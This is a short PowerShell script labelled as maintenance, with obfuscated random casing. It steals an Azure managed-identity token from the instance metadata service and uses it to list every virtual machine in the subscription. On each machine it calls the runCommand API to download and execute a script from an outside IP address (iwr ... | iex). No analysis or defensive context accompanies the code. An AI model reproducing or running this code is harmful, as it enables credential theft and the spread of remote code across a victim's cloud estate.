# mAiNtEnAnCe 0946 V3
$T = (InVoKe-wEbReQuEsT -UseBaSIcpArsING -HeAdErS @{mEtAdAtA="true"} "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F").COnTeNt | cONveRtfroM-jsOn
$h = @{aUtHorizAtIOn = "Bearer $($t.access_token)"}
$vMS = InVoKe-rEsTmEtHoD -HEADeRs $h "https://management.azure.com/subscriptions/$sub/providers/Microsoft.Compute/virtualMachines?api-version=2023-03-01"
fOREaCH ($VM iN $VMs.vAlUe) { iNvOke-REstMetHoD -MEthod pOST -HeaderS $H -Uri "https://management.azure.com$($vm.id)/runCommand?api-version=2023-03-01" -BoDY '{"commandId":"RunPowerShellScript","script":["iwr http://203.0.113.200/inv.ps1|iex"]}' -cOnTeNtTyPe apPLiCATIOn/jSoN }
